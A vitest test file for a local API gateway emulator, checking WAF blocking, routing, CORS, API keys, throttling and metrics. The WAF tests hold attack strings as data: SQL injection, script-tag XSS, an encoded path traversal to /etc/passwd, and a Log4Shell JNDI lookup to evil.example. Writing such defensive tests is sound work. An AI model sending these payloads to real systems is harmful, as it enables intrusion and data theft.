import { describe, expect, it } from 'vitest';
import { startGateway } from '../../src/gateway/server.js';
import { ALT_KEY, API_KEY, APP_ORIGIN, call, count, EVIL_ORIGIN, testPolicy, TOKEN, volley, withGateway } from './helpers.js';

const KEY = { 'x-api-key': API_KEY };
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

describe('startGateway', () => {
  it('listens on a free port of 127.0.0.1 and closes', async () => {
    const gateway = await startGateway({ policy: testPolicy() });
    expect(gateway.url).toBe(`http://127.0.0.1:${gateway.port}`);
    expect(gateway.port).toBeGreaterThan(0);
    expect((await call(gateway, '/health')).status).toBe(200);
    await gateway.close();
    await gateway.close(); // idempotent
    await expect(fetch(`${gateway.url}/health`)).rejects.toThrow();
  });

  it('refuses an unknown fault name', async () => {
    await expect(startGateway({ policy: testPolicy(), faults: ['nope' as never] })).rejects.toThrow(/unknown fault "nope"/);
  });
});

describe('1. WAF', () => {
  it('blocks attacks before route lookup, auth and throttle, with WAF_FILTERED', () =>
    withGateway([], async (gateway) => {
      for (const path of [
        '/api/items?id=1%20UNION%20SELECT%20password',
        '/nowhere?q=%3Cscript%3E',
        '/health?f=..%252f..%252fetc%252fpasswd',
      ]) {
        const answer = await call(gateway, path);
        expect(answer.status, path).toBe(403);
        expect(answer.headers.get('x-amzn-errortype')).toBe('ForbiddenException');
        expect(answer.body).toBe('{"message":"Forbidden"}');
      }
    }));

  it('inspects headers and bodies but not the credential header', () =>
    withGateway([], async (gateway) => {
      expect((await call(gateway, '/health', { headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } })).status).toBe(403);
      expect((await call(gateway, '/health', { headers: { cookie: 'a=1; b=<script>alert(1)</script>' } })).status).toBe(403);
      const post = await call(gateway, '/api/items', {
        method: 'POST',
        headers: { ...KEY, 'content-type': 'application/json' },
        body: JSON.stringify({ q: "' OR 1=1--" }),
      });
      expect(post.status).toBe(403);
      expect(post.headers.get('x-amzn-errortype')).toBe('ForbiddenException');
      // A key that looks like an attack is the auth step's business, not the WAF's.
      expect((await call(gateway, '/health', { headers: { 'x-api-key': "k' OR 1=1--" } })).status).toBe(200);
    }));

  it('lets ordinary requests through', () =>
    withGateway([], async (gateway) => {
      const body = JSON.stringify({ name: "O'Brien", note: 'drop me a line', code: 'if (a < b) return;' });
      const post = await call(gateway, '/api/items', { method: 'POST', headers: { ...KEY, 'content-type': 'application/json' }, body });
      expect(post.status).toBe(201);
      expect((await call(gateway, '/health?q=select+a+size&name=O%27Brien')).status).toBe(200);
    }));
});

describe('2. route lookup', () => {
  it('answers unknown paths and methods with 403 Missing Authentication Token', () =>
    withGateway([], async (gateway) => {
      for (const [method, path] of [
        ['GET', '/nope'],
        ['GET', '/api/items/'],
        ['GET', '/API/items'],
        ['DELETE', '/api/items'],
        ['PUT', '/health'],
        ['OPTIONS', '/health'],
      ] as const) {
        const answer = await call(gateway, path, { method, headers: KEY });
        expect(answer.status, `${method} ${path}`).toBe(403);
        expect(answer.headers.get('x-amzn-errortype')).toBe('MissingAuthenticationTokenException');
        expect(answer.body).toBe('{"message":"Missing Authentication Token"}');
      }
    }));

  it('ignores the query string', () =>
    withGateway([], async (gateway) => {
      expect((await call(gateway, '/health?x=1&y=2')).status).toBe(200);
    }));
});

describe('3. CORS preflight', () => {
  const preflight = (origin: string, method = 'GET'): RequestInit => ({
    method: 'OPTIONS',
    headers: { origin, 'access-control-request-method': method, 'access-control-request-headers': 'x-api-key' },
  });

  it('answers an allowed origin with 204 and the configured headers, without a key', () =>
    withGateway([], async (gateway) => {
      const answer = await call(gateway, '/api/items', preflight(APP_ORIGIN));
      expect(answer.status).toBe(204);
      expect(answer.headers.get('access-control-allow-origin')).toBe(APP_ORIGIN);
      expect(answer.headers.get('access-control-allow-methods')).toBe('GET,POST');
      expect(answer.headers.get('access-control-allow-headers')).toBe('content-type,x-api-key');
      expect(answer.headers.get('access-control-max-age')).toBe('600');
      expect(answer.headers.get('access-control-allow-credentials')).toBe('true');
      expect(answer.headers.get('vary')).toBe('Origin');
      expect(answer.headers.get('x-amzn-requestid')).toMatch(UUID);
    }));

  it('answers a disallowed origin with 204 and no Access-Control-Allow-* header', () =>
    withGateway([], async (gateway) => {
      for (const origin of [EVIL_ORIGIN, 'null', `${APP_ORIGIN}.evil.tld`, 'http://app.example.com']) {
        const answer = await call(gateway, '/api/items', preflight(origin));
        expect(answer.status).toBe(204);
        expect(
          [...answer.headers.keys()].filter((name) => name.startsWith('access-control-allow-')),
          origin,
        ).toEqual([]);
      }
    }));

  it('uses `*` when the policy allows any origin', () =>
    withGateway([], async (gateway) => {
      const answer = await call(gateway, '/public', preflight(EVIL_ORIGIN));
      expect(answer.status).toBe(204);
      expect(answer.headers.get('access-control-allow-origin')).toBe('*');
      expect(answer.headers.get('access-control-allow-credentials')).toBeNull();
    }));

  it('does not consume throttle tokens', () =>
    withGateway([], async (gateway) => {
      const preflights = await volley(gateway, '/api/items', 6, preflight(APP_ORIGIN));
      expect(count(preflights.statuses, 204)).toBe(6);
      const gets = await volley(gateway, '/api/items', 3, { headers: KEY });
      expect(count(gets.statuses, 200)).toBe(3);
    }));
});

describe('4. API key', () => {
  it('refuses a missing or wrong key with 403 Forbidden and accepts the right one', () =>
    withGateway([], async (gateway) => {
      for (const headers of [
        {},
        { 'x-api-key': 'wrong' },
        { 'x-api-key': API_KEY.slice(0, -1) },
        { 'x-api-key': `${API_KEY},${API_KEY}` },
        { authorization: API_KEY },
      ] as Array<Record<string, string>>) {
        const answer = await call(gateway, '/api/items', { headers });
        expect(answer.status, JSON.stringify(headers)).toBe(403);
        expect(answer.headers.get('x-amzn-errortype')).toBe('ForbiddenException');
        expect(answer.body).toBe('{"message":"Forbidden"}');
      }
      expect((await call(gateway, '/api/items', { headers: { 'X-API-KEY': API_KEY } })).status).toBe(200);
    }));

  it('expects the scheme before the value when the credential has one', () =>
    withGateway([], async (gateway) => {
      expect((await call(gateway, '/bearer', { headers: { authorization: `Bearer ${TOKEN}` } })).status).toBe(200);
      expect((await call(gateway, '/bearer', { headers: { authorization: TOKEN } })).status).toBe(403);
      expect((await call(gateway, '/bearer', { headers: { authorization: 'Bearer nope' } })).status).toBe(403);
    }));

  it('does not ask for a key on a public route, whatever is sent', () =>
    withGateway([], async (gateway) => {
      expect((await call(gateway, '/health', { headers: { 'x-api-key': 'anything' } })).status).toBe(200);
    }));
});

describe('5. throttle', () => {
  it('admits the burst, then answers 429 Too Many Requests', () =>
    withGateway([], async (gateway) => {
      const { statuses, elapsedMs } = await volley(gateway, '/api/items', 6, { headers: KEY });
      // burstLimit 3, rateLimit 1/s: 3 at once, plus one per second the volley took.
      const ok = count(statuses, 200);
      expect(ok).toBeGreaterThanOrEqual(3);
      expect(ok).toBeLessThanOrEqual(3 + Math.floor(elapsedMs / 1000));
      expect(count(statuses, 429)).toBe(6 - ok);
      const answer = await call(gateway, '/api/items', { headers: { ...KEY, origin: APP_ORIGIN } });
      expect(answer.status).toBe(429);
      expect(answer.body).toBe('{"message":"Too Many Requests"}');
      expect(answer.headers.get('x-amzn-errortype')).toBe('TooManyRequestsException');
      // A browser can read the 429: it carries the CORS headers.
      expect(answer.headers.get('access-control-allow-origin')).toBe(APP_ORIGIN);
    }));

  it('keeps one bucket per API key', () =>
    withGateway([], async (gateway) => {
      await volley(gateway, '/api/items', 4, { headers: KEY });
      expect((await call(gateway, '/api/items', { headers: KEY })).status).toBe(429);
      const alt = await volley(gateway, '/api/items', 3, { headers: { 'x-api-key': ALT_KEY } });
      expect(count(alt.statuses, 200)).toBe(3);
    }));

  it('keeps one bucket per route', () =>
    withGateway([], async (gateway) => {
      const limited = await volley(gateway, '/limited', 3);
      expect(limited.statuses[0]).toBe(200);
      expect(count(limited.statuses, 429)).toBeGreaterThanOrEqual(1);
      expect((await call(gateway, '/api/items', { headers: KEY })).status).toBe(200);
    }));

  it('does not count refused requests against the bucket', () =>
    withGateway([], async (gateway) => {
      await volley(gateway, '/api/items', 5, { headers: { 'x-api-key': 'wrong' } });
      const { statuses } = await volley(gateway, '/api/items', 3, { headers: KEY });
      expect(count(statuses, 200)).toBe(3);
    }));

  it('does not limit a route without throttle', () =>
    withGateway([], async (gateway) => {
      const { statuses } = await volley(gateway, '/health', 20);
      expect(count(statuses, 200)).toBe(20);
    }));
});

describe('6. backend', () => {
  it('answers 200 JSON naming the route, with a request id', () =>
    withGateway([], async (gateway) => {
      const answer = await call(gateway, '/api/items', { headers: KEY });
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('application/json');
      expect(JSON.parse(answer.body)).toEqual({ ok: true, route: 'GET /api/items' });
      expect(answer.headers.get('x-amzn-requestid')).toMatch(UUID);
      const other = await call(gateway, '/health');
      expect(other.headers.get('x-amzn-requestid')).not.toBe(answer.headers.get('x-amzn-requestid'));
    }));

  it("answers with the route's okStatus and discards the body", () =>
    withGateway([], async (gateway) => {
      const answer = await call(gateway, '/api/items', { method: 'POST', headers: KEY, body: 'x'.repeat(100_000) });
      expect(answer.status).toBe(201);
      expect(JSON.parse(answer.body)).toEqual({ ok: true, route: 'POST /api/items' });
    }));

  it('answers HEAD without a body', () =>
    withGateway([], async (gateway) => {
      const answer = await call(gateway, '/health', { method: 'HEAD' });
      expect(answer.status).toBe(200);
      expect(answer.body).toBe('');
    }));
});

describe('CORS on actual responses', () => {
  it('adds the actual-response headers for an allowed origin only', () =>
    withGateway([], async (gateway) => {
      const allowed = await call(gateway, '/api/items', { headers: { ...KEY, origin: APP_ORIGIN } });
      expect(allowed.headers.get('access-control-allow-origin')).toBe(APP_ORIGIN);
      expect(allowed.headers.get('access-control-allow-credentials')).toBe('true');
      expect(allowed.headers.get('access-control-expose-headers')).toBe('x-amzn-requestid');
      expect(allowed.headers.get('vary')).toBe('Origin');
      const denied = await call(gateway, '/api/items', { headers: { ...KEY, origin: EVIL_ORIGIN } });
      expect(denied.status).toBe(200);
      expect(denied.headers.get('access-control-allow-origin')).toBeNull();
      expect(denied.headers.get('access-control-allow-credentials')).toBeNull();
      const none = await call(gateway, '/health', { headers: { origin: APP_ORIGIN } });
      expect(none.headers.get('access-control-allow-origin')).toBeNull();
    }));

  it('adds them to gateway refusals too', () =>
    withGateway([], async (gateway) => {
      const refused = await call(gateway, '/api/items', { headers: { origin: APP_ORIGIN } });
      expect(refused.status).toBe(403);
      expect(refused.headers.get('access-control-allow-origin')).toBe(APP_ORIGIN);
      const blocked = await call(gateway, '/api/items?q=%3Cscript%3E', { headers: { origin: APP_ORIGIN } });
      expect(blocked.status).toBe(403);
      expect(blocked.headers.get('access-control-allow-origin')).toBe(APP_ORIGIN);
    }));

  it('sends `*` on a route that allows any origin', () =>
    withGateway([], async (gateway) => {
      const answer = await call(gateway, '/public', { headers: { origin: EVIL_ORIGIN } });
      expect(answer.headers.get('access-control-allow-origin')).toBe('*');
    }));
});

describe('metrics', () => {
  it('records Count, 4XXError and Latency per minute and route', () =>
    withGateway([], async (gateway) => {
      await call(gateway, '/api/items', { headers: KEY });
      await call(gateway, '/api/items');
      await call(gateway, '/nope');
      const points = gateway.recorder.datapoints({ mergeRoutes: false });
      const items = points.filter((p) => p.route === 'GET /api/items');
      expect(items.reduce((sum, p) => sum + p.count, 0)).toBe(2);
      expect(items.reduce((sum, p) => sum + p.error4xx, 0)).toBe(1);
      expect(items[0]!.latency.maxMs).toBeGreaterThan(0);
      expect(gateway.recorder.routes()).toContain('(unrouted)');
    }));
});

describe('the shipped demo policy', () => {
  it('loads and is enforced as written', async () => {
    const { loadPolicyFile } = await import('../../src/policy/load.js');
    const policy = loadPolicyFile(new URL('../../policies/demo.yaml', import.meta.url).pathname, {
      env: { GATECHECK_DEMO_API_KEY: 'demo-key' },
    });
    await withGateway(
      [],
      async (gateway) => {
        expect((await call(gateway, '/api/items', { headers: { 'x-api-key': 'demo-key' } })).status).toBe(200);
        expect((await call(gateway, '/api/items')).status).toBe(403);
        expect((await call(gateway, '/health')).status).toBe(200);
        const pre = await call(gateway, '/api/items', {
          method: 'OPTIONS',
          headers: { origin: 'https://app.example.com', 'access-control-request-method': 'GET' },
        });
        expect(pre.status).toBe(204);
        expect(pre.headers.get('access-control-max-age')).toBe('600');
        // burstLimit 20 at 50/s: at most 20 at once plus 50 per second of volley; at least the 19
        // tokens left after the first request above.
        const { statuses, elapsedMs } = await volley(gateway, '/api/items', 30, { headers: { 'x-api-key': 'demo-key' } });
        expect(count(statuses, 200)).toBeLessThanOrEqual(20 + Math.floor((elapsedMs * 50) / 1000));
        expect(count(statuses, 200)).toBeGreaterThanOrEqual(19);
      },
      policy,
    );
  });
});
